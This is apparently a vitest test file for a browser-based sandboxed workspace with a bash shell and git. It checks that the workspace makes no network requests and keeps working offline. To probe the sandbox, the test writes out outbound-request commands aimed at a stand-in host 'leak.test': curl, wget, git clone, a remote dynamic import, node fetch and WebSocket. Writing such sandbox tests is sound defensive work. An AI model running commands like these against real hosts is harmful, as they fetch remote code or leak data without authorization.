import { readFileSync } from 'node:fs'
import { createServer } from 'node:http'
import type { AddressInfo, Socket } from 'node:net'
import { join } from 'node:path'
import { type BuildOptions, build } from 'esbuild'
import { chromium } from 'playwright'
import { afterAll, beforeAll, expect, it } from 'vitest'
import { chromiumArgs, chromiumPath } from '../../runtimes/chromium.ts'

const top = join(import.meta.dirname, '../../..')
const wasm = 'node_modules/@jitl/quickjs-wasmfile-release-asyncify/dist/emscripten-module.wasm'

/** The page: a project with a failing test, and a function that runs commands in it. */
const page = `
import { memory } from './dist/backends/memory/index.js'
import { git } from './dist/git/index.js'
import { createWorkspace } from './dist/index.js'
import { bash } from './dist/shells/bash/index.js'

const files = {
  'package.json': JSON.stringify({ name: 'sample', type: 'module', scripts: { test: 'node --test' } }),
  'add.js': 'export const add = (a, b) => a - b\\n',
  'add.test.js': "import assert from 'node:assert'; import test from 'node:test'; import { add } from './add.js'; test('adds', () => assert.equal(add(1, 2), 3))",
}
const worker = () => new Worker('/thread.js', { type: 'module' })
const workspace = await createWorkspace({ backend: memory(files), policy: 'autonomous', shell: bash({ worker }), git: git() })
globalThis.run = async (command, timeoutMs = 60_000) => {
  const { ok, code, message, exitCode, stdout, stderr } = await workspace.call('run_command', { command, timeoutMs })
  return { ok, code, message, exitCode, stdout, stderr }
}
globalThis.ready = true
`

/** A proxy for every request of the browser: of the page, its workers, and the browser itself. */
const requests: string[] = []
let isOnline = true
let files: Readonly<Record<string, readonly [type: string, body: string | Uint8Array]>>
const proxy = createServer((request, response) => {
  const url = new URL(request.url ?? '/', 'http://origin.test')
  requests.push(url.href)
  const file = url.hostname === 'localhost' ? files[url.pathname] : undefined
  if (!isOnline) return void request.socket.destroy()
  response.writeHead(file === undefined ? 404 : 200, {
    'content-type': file?.[0] ?? 'text/plain',
    'cache-control': 'public, max-age=31536000, immutable',
  })
  response.end(file?.[1])
})
proxy.on('connect', (request, socket: Socket) => {
  requests.push(`connect ${request.url}`)
  socket.destroy()
})
let browser: Awaited<ReturnType<typeof chromium.launch>>

beforeAll(async () => {
  const bundle = async (from: BuildOptions) => {
    const { outputFiles } = await build({
      ...from,
      bundle: true,
      write: false,
      format: 'esm',
      platform: 'browser',
      logLevel: 'error',
      define: { 'process.env': '{}' },
      external: ['./thread.js'],
      plugins: [
        {
          name: 'without-zlib',
          setup(to) {
            to.onResolve({ filter: /^node:zlib$/ }, () => ({ path: 'zlib', namespace: 'nothing' }))
            to.onLoad({ filter: /^/, namespace: 'nothing' }, () => ({ contents: 'module.exports = {}' }))
          },
        },
      ],
    })
    return outputFiles[0]?.text ?? ''
  }
  files = {
    '/': ['text/html', '<!doctype html><link rel="icon" href="data:,"><script type="module" src="/page.js"></script>'],
    '/page.js': ['text/javascript', await bundle({ stdin: { contents: page, resolveDir: top } })],
    '/thread.js': ['text/javascript', await bundle({ entryPoints: [join(top, 'dist/shells/bash/thread.js')] })],
    '/emscripten-module.wasm': ['application/wasm', readFileSync(join(top, wasm))],
  }
  await new Promise<void>((ready) => proxy.listen(0, '127.0.0.1', ready))
  const server = `http://127.0.0.1:${(proxy.address() as AddressInfo).port}`
  const args = [...chromiumArgs, `--proxy-server=${server}`, '--proxy-bypass-list=<-loopback>']
  browser = await chromium.launch({ executablePath: await chromiumPath(), args })
}, 240_000)
afterAll(async () => {
  await browser?.close()
  proxy.close()
})

it('a page makes no request while commands and scripts run, and works offline', async () => {
  const tab = await browser.newPage()
  await tab.goto('http://localhost/')
  await tab.waitForFunction('globalThis.ready === true')
  const run = (command: string, timeoutMs?: number) =>
    tab.evaluate(`run(${JSON.stringify(command)}, ${timeoutMs})`) as Promise<Record<string, unknown>>
  // Loads the parts that are loaded on first use.
  expect(await run('npm test')).toMatchObject({ ok: true, exitCode: 1 })
  expect(await run('git init -q; git add .; git commit -qm first')).toMatchObject({ exitCode: 0 })
  expect(requests.filter((url) => !url.startsWith('http://localhost/'))).toEqual([])

  isOnline = false
  requests.length = 0
  expect(await run("sed -i 's/a - b/a + b/' add.js; npm test")).toMatchObject({ exitCode: 0 })
  expect(await run('git diff --name-only; git commit -qam mended; git log --format=%s')).toMatchObject({
    stdout: 'add.js\nmended\nfirst\n',
  })
  expect((await run('node -e "while (true) {}"', 1500)).code).toBe('COMMAND_TIMEOUT')
  expect((await run('while :; do :; done', 1500)).ok).toBe(false)
  await run(`echo 'await import("https://leak.test/x.mjs")' > leak.mjs`)
  const leaks = [
    'curl https://leak.test/; wget https://leak.test/; git clone https://leak.test/x.git .; node leak.mjs',
    'node -e "fetch(\'https://leak.test/\')"; node -e "new WebSocket(\'wss://leak.test/\')"',
  ]
  for (const line of leaks) {
    const { ok, exitCode, message } = await run(line)
    expect(ok && exitCode !== 0, `${line}: ${message}`).toBe(true)
  }
  expect(requests).toEqual([])

  // A request of the page or of a worker would have been recorded here.
  await tab.evaluate(`fetch('https://page.test/').catch(() => {})`)
  const fromWorker = 'new Blob(["fetch(\'https://worker.test/\').catch(() => {}).then(() => postMessage(1))"])'
  await tab.evaluate(`new Promise((done) => { new Worker(URL.createObjectURL(${fromWorker})).onmessage = done })`)
  expect(requests).toEqual(expect.arrayContaining(['connect page.test:443', 'connect worker.test:443']))
}, 240_000)
